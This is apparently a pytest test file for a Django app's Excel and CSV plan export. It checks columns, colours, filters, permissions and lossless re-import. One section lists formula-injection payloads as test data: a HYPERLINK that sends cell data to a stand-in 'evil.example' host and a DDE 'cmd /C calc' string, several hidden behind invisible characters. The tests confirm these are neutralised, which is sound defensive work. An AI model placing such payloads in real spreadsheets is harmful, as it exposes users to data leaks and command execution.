"""The plan downloaded as Excel or CSV, as filtered; an export re-imports changing nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from actions import services
from actions.exports import cells
from actions.exports import plan_export as exports
from actions.importer import plan_import
from actions.models import Action, Finding, FindingKind, HistoryEntry, Status, WeeklyUpdate
from tests.factories import RECOVERY, ActionFactory, ExecRoleFactory, InspectionFactory, UserFactory

pytestmark = pytest.mark.django_db

LONDON = ZoneInfo("Europe/London")
MONDAY = dt.datetime(2026, 1, 12, 9, 0, tzinfo=LONDON)
NEXT_MONDAY = MONDAY + dt.timedelta(days=7)
RISKY = '=HYPERLINK("http://evil.example","Click")'


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NEXT_MONDAY, tick=False):
        yield


@pytest.fixture
def plan(plan):
    plan.inspection = InspectionFactory()
    plan.save()
    return plan


@pytest.fixture
def actions(plan, lead, other_lead):
    """Five actions, one per status, with what a real plan holds, and risky text."""
    lead.first_name, lead.last_name = "Amira", "Khan"
    lead.save()
    dwod, md = ExecRoleFactory(code="DWOD"), ExecRoleFactory(code="MD")
    finding = Finding.objects.create(
        inspection=plan.inspection, ref="M1", kind=FindingKind.MUST, text="Train staff."
    )
    made = []
    for ref, status, kind, who in [
        ("T1", Status.RED, FindingKind.MUST, lead),
        ("T2", Status.AMBER, FindingKind.SHOULD, other_lead),
        ("G1", Status.GREEN, FindingKind.REGULATORY, lead),
        ("G2", Status.BLUE, FindingKind.SECTION_29A, None),
        ("D1", Status.WHITE, FindingKind.SECTION_31, other_lead),
    ]:
        made.append(
            ActionFactory(
                plan=plan,
                ref=ref,
                status=status,
                kind=kind,
                action_lead=who,
                theme="Training" if ref.startswith("T") else "Governance",
                end_date=None if ref == "D1" else dt.date(2026, 6, 30),
            )
        )
    t1, t2, g1, g2, d1 = made
    t1.exec_roles.set([dwod, md])
    t2.exec_roles.set([dwod])
    t1.findings.set([finding])
    t1.requirement = f"{RISKY}\r\nSecond line  with two spaces."
    t1.save()
    g1.theme = "+44 Governance"
    g1.department = "-Medicine"
    g1.save()
    d1.requirement = "@mention the ward"
    d1.save()
    with time_machine.travel(MONDAY, tick=False):
        week_1 = services.period_current_row(plan=plan)
        services.update_submit(
            action=t1, period=week_1, author=lead, status=Status.AMBER, narrative="Week one"
        )
    week_2 = services.period_current_row(plan=plan)
    services.update_submit(
        recovery=RECOVERY,
        action=t1,
        period=week_2,
        author=lead,
        status=Status.RED,
        narrative="=1+1 slipping",
    )
    return {a.ref: a for a in Action.objects.filter(plan=plan)}


def params(query: str = "") -> QueryDict:
    return QueryDict(query)


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def plan_state(plan) -> list:
    """Every field, link and history entry of the plan's actions, to compare byte for byte."""
    rows = []
    for action in Action.objects.filter(plan=plan).order_by("id"):
        fields = {f.attname: getattr(action, f.attname) for f in Action._meta.concrete_fields}
        rows.append(
            (
                fields,
                sorted(action.exec_roles.values_list("pk", flat=True)),
                sorted(action.findings.values_list("pk", flat=True)),
                list(HistoryEntry.objects.filter(action=action).order_by("id").values()),
                list(WeeklyUpdate.objects.filter(action=action).order_by("id").values()),
            )
        )
    return rows


# Excel ----------------------------------------------------------------------------------


def test_xlsx_has_every_column_a_frozen_filtered_header_and_sensible_widths(plan, actions):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))

    headers = [c.value for c in sheet[1]]
    assert headers == [c.header for c in exports.COLUMNS]
    assert headers[:10] == [
        "Ref.",
        "Theme",
        "Dept",
        "Must do / should do",
        "Requirement and actions",
        "RAGB",
        "Exec lead",
        "Action lead",
        "Start date",
        "End date",
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.tables[exports.TABLE_NAME].autoFilter.ref == f"A1:Q{len(actions) + 1}"
    assert sheet.auto_filter.ref is None, "Excel refuses a sheet filter beside a table's"
    assert sheet["A1"].font.b is True
    widths = {
        c.header: sheet.column_dimensions[chr(65 + i)].width for i, c in enumerate(exports.COLUMNS)
    }
    assert widths["Requirement and actions"] == 60
    assert widths["Latest update narrative"] == 60
    assert 8 <= widths["Ref."] <= 10
    assert sheet["E2"].alignment.wrap_text is True


def test_the_rows_are_one_named_table_that_power_query_can_refresh(plan, actions):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))

    assert list(sheet.tables) == ["ImprovementPlan"]
    table = sheet.tables["ImprovementPlan"]
    assert table.ref == f"A1:Q{len(actions) + 1}" == f"A1:Q{sheet.max_row}"
    assert table.column_names == [c.header for c in exports.COLUMNS]
    assert table.tableStyleInfo.name
    assert sheet.freeze_panes == "A2"
    assert sheet["F2"].fill.fgColor.rgb.endswith(exports.STATUS_FILLS[Status.RED][0])


def test_an_empty_export_is_still_a_table_with_one_blank_row(plan):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))

    assert sheet.tables["ImprovementPlan"].ref == "A1:Q2"
    assert all(cell.value is None for cell in sheet[2])


def test_status_cells_are_filled_in_ragb_colours(plan, actions):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))

    fills = {}
    for row in sheet.iter_rows(min_row=2):
        fills[row[0].value] = (
            row[5].value,
            row[5].fill.fgColor.rgb[-6:],
            row[5].font.color.rgb[-6:],
        )
    assert fills == {
        "T1": ("Red", "DA291C", "FFFFFF"),
        "T2": ("Amber", "FFB81C", "000000"),
        "G1": ("Green", "009639", "FFFFFF"),
        "G2": ("Blue", "005EB8", "FFFFFF"),
        "D1": ("White", "FFFFFF", "000000"),
    }
    t1 = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T1")
    assert t1[13].value == "Red"  # the latest update's RAGB, filled too
    assert t1[13].fill.fgColor.rgb[-6:] == "DA291C"


def test_the_latest_update_and_the_links_are_in_the_row(plan, actions, lead):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}

    t1 = rows["T1"]
    assert t1[6] == "DWOD/MD"
    assert t1[7] == "Amira Khan"  # the name, since the importer finds only her by it
    assert t1[10] == "Amira Khan"
    assert t1[11] == "M1"
    assert t1[12] == "Week ending Wed 21 Jan 2026"
    assert (t1[13], t1[14], t1[15]) == ("Red", "=1+1 slipping", "Amira Khan")
    assert t1[16] == dt.datetime(2026, 1, 19, 9, 0)
    assert t1[8] == dt.datetime(2026, 1, 1)  # a real date cell, shown DD/MM/YYYY
    assert rows["D1"][9] is None
    assert rows["T2"][12:15] == (None, None, None)  # no update yet
    assert rows["G1"][3] == "Regulatory requirement notice"


def test_cells_that_look_like_formulas_are_text(plan, actions):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))
    cells = {r[0].value: r for r in sheet.iter_rows(min_row=2)}

    for cell in (cells["T1"][4], cells["T1"][14], cells["G1"][1], cells["G1"][2], cells["D1"][4]):
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix is True, cell.coordinate
    assert cells["T1"][4].value.startswith(RISKY)
    assert cells["T2"][4].quotePrefix is False  # ordinary text is left alone


# CSV ------------------------------------------------------------------------------------


def test_csv_has_the_same_columns_and_guards_formulas(plan, actions):
    rows = read_csv(exports.plan_csv(plan=plan, params=params()))

    assert rows[0] == [c.header for c in exports.COLUMNS]
    by_ref = {r[0]: r for r in rows[1:]}
    assert by_ref["T1"][4].startswith(f"'{RISKY}")
    assert by_ref["T1"][14] == "'=1+1 slipping"
    assert by_ref["G1"][1] == "'+44 Governance"
    assert by_ref["G1"][2] == "'-Medicine"
    assert by_ref["D1"][4] == "'@mention the ward"
    assert by_ref["T1"][5] == "Red"
    assert by_ref["T1"][8:10] == ["01/01/2026", "30/06/2026"]
    assert by_ref["T2"][1] == "Training"


# Round trip -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_reimports_into_the_same_plan_changing_nothing(plan, actions, pmo, fmt):
    data = getattr(exports, f"plan_{fmt}")(plan=plan, params=params())
    before = plan_state(plan)

    preview = plan_import(plan=plan, data=data, filename=f"plan.{fmt}", by=pmo)
    applied = plan_import(plan=plan, data=data, filename=f"plan.{fmt}", by=pmo, dry_run=False)

    for report in (preview, applied):
        assert report.ok, report.errors
        assert (report.created, report.updated, report.unchanged) == (0, 0, len(actions))
        assert report.new_exec_roles == []
    assert plan_state(plan) == before


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_leads_who_share_a_name_are_written_so_the_import_finds_each(plan, actions, pmo, fmt):
    twin = UserFactory(username="akhan2", first_name="Amira", last_name="Khan")
    ActionFactory(plan=plan, ref="T9", action_lead=twin)
    data = getattr(exports, f"plan_{fmt}")(plan=plan, params=params())
    before = plan_state(plan)

    report = plan_import(plan=plan, data=data, filename=f"plan.{fmt}", by=pmo, dry_run=False)

    assert report.ok, report.errors
    assert (report.created, report.updated) == (0, 0)
    assert plan_state(plan) == before
    labels = exports.lead_labels([actions["T1"].action_lead, twin])
    assert labels == {
        actions["T1"].action_lead.pk: "lead@trust.example.nhs.uk",
        twin.pk: "akhan2@trust.example.nhs.uk",
    }


def test_a_changed_export_still_imports_the_change(plan, actions, pmo):
    rows = read_csv(exports.plan_csv(plan=plan, params=params()))
    for row in rows[1:]:
        if row[0] == "T2":
            row[1] = "Workforce"
    out = io.StringIO()
    csv.writer(out).writerows(rows)

    report = plan_import(plan=plan, data=out.getvalue().encode(), filename="p.csv", dry_run=False)

    assert (report.created, report.updated) == (0, 1)
    assert Action.objects.get(plan=plan, ref="T2").theme == "Workforce"
    assert Action.objects.get(plan=plan, ref="T1").requirement.startswith(RISKY)


# Hostile text ----------------------------------------------------------------------------

# Text that a spreadsheet would run, hidden behind what a guard looking only at the first
# character misses. (PostgreSQL refuses NUL, so \x00 cannot reach an export.)
HOSTILE = {
    "control_then_formula": '\x01=HYPERLINK("http://evil.example/?"&A1,"click")',
    "controls_then_plus": "\x1f\x08+cmd|' /C calc'!A0",
    "space_then_equals": " =1+1",
    "no_break_space_then_equals": "\u00a0=1+1",
    "zero_width_space_then_minus": "\u200b-2+3",
    "byte_order_mark_then_equals": "\ufeff=1+1",
    "direction_override_then_equals": "\u202e=1+1",
    "delete_then_equals": "\x7f=1+1",
    "c1_control_then_at": "\x9b@SUM(A1)",
    "tab_then_equals": "\t=1+1",
    "carriage_return_then_at": "\r@SUM(A1)",
    "line_feed_then_equals": "\n=1+1",
    "apostrophe_then_equals": "'=1+1",
}
# Characters no export may hold: controls (but tab and line breaks), direction overrides,
# zero-width and byte-order marks.
UNSAFE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]"
)


def runs_as_formula(value: str) -> bool:
    """What Excel or LibreOffice may run: =, +, -, @ after any spacing, or a tab or CR first."""
    if value[:1] in ("\t", "\r"):
        return True
    return value.lstrip(" \t\r\n\u00a0\u200b\ufeff\u202e")[:1] in ("=", "+", "-", "@")


@pytest.fixture
def hostile(request, plan, actions, lead):
    """An action whose typed fields and latest narrative start with the hostile text; the
    narrative as an older release could have stored it (the update form now cleans it)."""
    value = request.param
    action = actions["T2"]
    action.theme, action.department, action.requirement = value, value, f"{value} then words"
    action.save()
    period = services.period_current_row(plan=plan)
    update = services.update_submit(
        action=action,
        period=period,
        author=action.action_lead,
        status=Status.AMBER,
        narrative="Staffing gap; recovery in hand.",
    )
    WeeklyUpdate.objects.filter(pk=update.pk).update(narrative=value)
    return value


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys(), indirect=True)
def test_xlsx_holds_no_formula_and_no_control_character(plan, hostile):
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))

    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not UNSAFE.search(cell.value), (cell.coordinate, cell.value)
                if runs_as_formula(cell.value):
                    assert cell.quotePrefix is True, (cell.coordinate, cell.value)
    t2 = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T2")
    assert [t2[1].quotePrefix, t2[2].quotePrefix, t2[14].quotePrefix] == [
        runs_as_formula(t2[1].value)
    ] * 3


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys(), indirect=True)
def test_csv_holds_no_formula_and_no_control_character(plan, hostile):
    rows = read_csv(exports.plan_csv(plan=plan, params=params()))

    for row in rows:
        for value in row:
            assert not UNSAFE.search(value), value
            assert not runs_as_formula(value), value
    t2 = next(r for r in rows if r[0] == "T2")
    assert t2[14] == t2[1] == t2[2]


def test_a_control_character_before_a_formula_is_taken_out_and_the_formula_kept_as_text(
    plan, actions
):
    actions["T2"].requirement = HOSTILE["control_then_formula"]
    actions["T2"].save()
    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))
    rows = read_csv(exports.plan_csv(plan=plan, params=params()))

    cell = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T2")[4]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "s",
        True,
    )
    assert next(r for r in rows if r[0] == "T2")[4] == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    )


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys(), indirect=True)
def test_an_export_with_hostile_text_reimports_changing_nothing(plan, pmo, fmt, hostile):
    data = getattr(exports, f"plan_{fmt}")(plan=plan, params=params())
    before = plan_state(plan)

    report = plan_import(plan=plan, data=data, filename=f"plan.{fmt}", by=pmo, dry_run=False)

    assert report.ok, report.errors
    assert (report.created, report.updated) == (0, 0)
    assert plan_state(plan) == before


# Filters --------------------------------------------------------------------------------


def test_filters_search_and_sort_of_the_plan_page_are_kept(plan, actions):
    def refs(query):
        sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params(query)))
        return [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]

    assert refs("") == ["T1", "T2", "G1", "G2", "D1"]
    assert refs("status=R&status=A") == ["T1", "T2"]
    assert refs("theme=Training") == ["T1", "T2"]
    assert refs("q=g2") == ["G2"]
    assert refs("updated=yes") == ["T1"]
    assert refs("updated=no&status=G") == ["G1"]
    assert refs("sort=-ref") == ["T2", "T1", "G2", "G1", "D1"]
    assert refs(f"action_lead={actions['T2'].action_lead_id}") == ["T2", "D1"]


def test_a_filtered_export_reimports_changing_nothing(plan, actions, pmo):
    data = exports.plan_csv(plan=plan, params=params("status=R&status=G"))
    before = plan_state(plan)

    report = plan_import(plan=plan, data=data, filename="red-green.csv", by=pmo, dry_run=False)

    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert plan_state(plan) == before


def test_the_export_reads_a_fixed_number_of_queries_whatever_the_plan_size(plan, actions):
    """The rows' exec leads, findings, latest updates and lead labels are read once each."""
    with CaptureQueriesContext(connection) as small:
        exports.plan_xlsx(plan=plan, params=params("sort=lead"))
    for n in range(20):
        extra = ActionFactory(plan=plan, ref=f"X{n}", action_lead=UserFactory())
        extra.exec_roles.set([ExecRoleFactory(code=f"C{n}")])
    with CaptureQueriesContext(connection) as large:
        exports.plan_xlsx(plan=plan, params=params("sort=lead"))

    assert len(large.captured_queries) == len(small.captured_queries) <= 10


# The download ---------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["pmo", "board", "exec", "reviewer"])
def test_whoever_reads_the_plan_downloads_it(client, plan, actions, who):
    role = {"pmo": "PMO", "board": "Board member", "exec": "Executive lead"}
    user = UserFactory(username=f"{who}-1", roles=[role.get(who, "Assurance reviewer")])
    client.force_login(user)

    xlsx = client.get(reverse("plan_export", args=[plan.pk, "xlsx"]), {"status": "R"})
    csv_response = client.get(reverse("plan_export", args=[plan.pk, "csv"]))

    assert xlsx.status_code == 200
    assert xlsx["Content-Type"] == cells.XLSX_TYPE
    assert xlsx["Content-Disposition"].startswith("attachment; filename=")
    assert xlsx["Content-Disposition"].endswith('-2026-01-19.xlsx"')
    assert [r[0] for r in read_xlsx(xlsx.content).iter_rows(min_row=2, values_only=True)] == ["T1"]
    assert csv_response.status_code == 200
    assert len(read_csv(csv_response.content)) == len(actions) + 1


def test_an_action_lead_cannot_download_the_plan(client, plan, actions, lead):
    client.force_login(lead)

    for fmt in ("xlsx", "csv"):
        response = client.get(reverse("plan_export", args=[plan.pk, fmt]))
        assert response.status_code == 403
        assert b"Ref." not in response.content


def test_anonymous_is_sent_to_sign_in(client, plan, actions):
    response = client.get(reverse("plan_export", args=[plan.pk, "csv"]))

    assert response.status_code == 302
    assert "login" in response["Location"]


def test_an_unknown_format_is_not_found(client, plan, pmo):
    client.force_login(pmo)

    assert client.get(reverse("plan_export", args=[plan.pk, "pdf"])).status_code == 404


def test_the_plan_page_links_to_both_downloads_with_its_filters(client, plan, actions, board):
    client.force_login(board)

    page = client.get(reverse("plan", args=[plan.pk]), {"status": "R", "sort": "ref"})

    text = page.content.decode()
    assert f"{reverse('plan_export', args=[plan.pk, 'xlsx'])}?status=R&amp;sort=ref" in text
    assert f"{reverse('plan_export', args=[plan.pk, 'csv'])}?status=R&amp;sort=ref" in text
    assert "the actions matching these filters" in text
